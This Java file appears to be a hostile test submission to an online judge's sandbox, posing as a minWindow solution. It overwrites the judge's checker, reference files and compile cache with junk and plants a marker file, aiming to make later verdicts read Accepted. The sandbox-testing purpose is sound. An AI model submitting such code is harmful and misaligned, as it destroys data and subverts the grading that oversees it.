import java.io.*;
import java.nio.file.*;
import java.util.*;

// 76, run without bubblewrap: tries to make every later verdict Accepted by overwriting what the judge trusts
// (the problem's checker and reference, every class in the compile cache) and to leave a marker in the judge's
// folders. TARGETS is replaced by the test with the paths to attack, separated by '|'.
class Solution {
    public String minWindow(String s, String t) {
        StringBuilder log = new StringBuilder();
        for (String target : "TARGETS".split("\\|")) {
            Path p = Paths.get(target);
            try {
                if (Files.isDirectory(p)) {
                    try (java.util.stream.Stream<Path> all = Files.walk(p)) {
                        for (Path f : (Iterable<Path>) all::iterator) {
                            if (Files.isRegularFile(f)) {
                                Files.write(f, "broken".getBytes());
                                log.append("wrote ").append(f).append('\n');
                            }
                        }
                    }
                    Files.write(p.resolve("MARKER"), "x".getBytes());
                    log.append("made ").append(p.resolve("MARKER")).append('\n');
                } else {
                    Files.write(p, "broken".getBytes());
                    log.append("wrote ").append(p).append('\n');
                }
            } catch (IOException | RuntimeException e) {
                log.append("refused ").append(p).append(": ").append(e).append('\n');
            }
        }
        System.out.print(log);
        return "";
    }
}
